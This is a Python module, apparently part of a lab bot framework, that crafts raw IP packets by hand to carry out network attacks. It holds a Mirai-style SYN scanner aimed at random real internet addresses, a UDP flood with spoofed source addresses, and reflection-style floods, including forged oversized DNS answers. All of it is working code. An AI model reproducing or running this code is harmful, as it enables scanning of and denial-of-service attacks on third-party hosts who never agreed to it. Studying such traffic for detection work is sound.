"""Attacks by packets made by hand: searching random addresses, and answers nobody asked for.

The trap: with IP_HDRINCL the kernel fills in the IP checksum but not that of TCP or UDP.
"""

from __future__ import annotations

import ipaddress
import random
import socket
import struct
from collections.abc import Callable

from lab.bots.pace import Told


def _checksum(words: bytes) -> int:
    total: int = sum(struct.unpack(f">{len(words) // 2}H", words))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def _raw() -> socket.socket:
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    return raw


def _ip_packet(*, source: str, target: str, proto: int, body: bytes, rng: random.Random) -> bytes:
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    pseudo = ends + struct.pack(">BBH", 0, proto, len(body))
    at = 16 if proto == socket.IPPROTO_TCP else 6
    checksum = _checksum(pseudo + body + b"\0" * (len(body) % 2))
    body = body[:at] + struct.pack(">H", checksum) + body[at + 2 :]
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(body), rng.randrange(65536), 0, rng.choice([64, 128]), proto, 0)
    return head + ends + body


def _random_address(rng: random.Random) -> str:
    while True:
        address = ipaddress.IPv4Address(rng.getrandbits(32))
        if address.is_global and not address.is_multicast:
            return str(address)


def search_internet(told: Told) -> None:
    """Send SYNs to random addresses outside, on few ports, without a connection behind them (Mirai's scanner)."""
    raw, own = _raw(), told.target  # the address answers would come back to
    sequence = told.rng.getrandbits(32)
    window, options = told.rng.choice([1024, 5840, 14600, 65535]), told.rng.choice([b"", b"\x02\x04\x05\xb4"])
    while told.pace.turn():
        port = told.ports[0] if told.rng.random() < 0.7 else told.rng.choice(told.ports)
        body = (
            struct.pack(
                ">HHIIBBHHH",
                told.rng.randrange(1024, 65536),
                port,
                sequence,
                0,
                (20 + len(options)) // 4 << 4,
                2,
                window,
                0,
                0,
            )
            + options
        )
        target = _random_address(told.rng)
        raw.sendto(_ip_packet(source=own, target=target, proto=6, body=body, rng=told.rng), (target, 0))


def spoofed_datagrams(told: Told) -> None:
    """Send datagrams of `size_bytes` to one port, each from a drawn address and port."""
    raw = _raw()
    while told.pace.turn():
        head = struct.pack(">HHHH", told.rng.randrange(1024, 65536), told.port, 8 + told.size_bytes, 0)
        body = head + told.rng.randbytes(told.size_bytes)
        source = _random_address(told.rng)
        raw.sendto(_ip_packet(source=source, target=told.target, proto=17, body=body, rng=told.rng), (told.target, 0))


def _flood_of_answers(told: Told, answer: Callable[[], bytes]) -> None:
    """Send answers nobody asked for, as reflectors do: few sources, one source port, any target port."""
    raw = _raw()
    sources = [_random_address(told.rng) for _ in range(max(1, told.parallel))]
    first_port = told.rng.randrange(1024, 60000)
    aims_at_one_port = told.rng.random() < 0.5
    while told.pace.turn():
        port = first_port if aims_at_one_port else told.rng.randrange(1024, 65536)
        payload = answer()
        body = struct.pack(">HHHH", told.port, port, 8 + len(payload), 0) + payload
        packet = _ip_packet(source=told.rng.choice(sources), target=told.target, proto=17, body=body, rng=told.rng)
        if len(packet) <= 1500:
            raw.sendto(packet, (told.target, 0))


def reflected(told: Told) -> None:
    """Send large answers of no protocol in particular."""
    _flood_of_answers(told, lambda: bytes(int(told.size_bytes * told.rng.uniform(0.8, 1.0))))


def reflected_names(told: Told) -> None:
    """Send DNS answers with as many address records as fit (RFC 1035: an A record with a pointer to the question)."""
    question = b"\x07example\x03com\0" + struct.pack(">HH", 255, 1)

    def answer() -> bytes:
        count = max(1, int((told.size_bytes - 12 - len(question)) / 16 * told.rng.uniform(0.8, 1.0)))
        head = struct.pack(">HHHHHH", told.rng.randrange(65536), 0x8180, 1, count, 0, 0)
        records = (
            struct.pack(">HHHIH", 0xC00C, 1, 1, 300, 4) + told.rng.getrandbits(32).to_bytes(4, "big")
            for _ in range(count)
        )
        return head + question + b"".join(records)

    _flood_of_answers(told, answer)
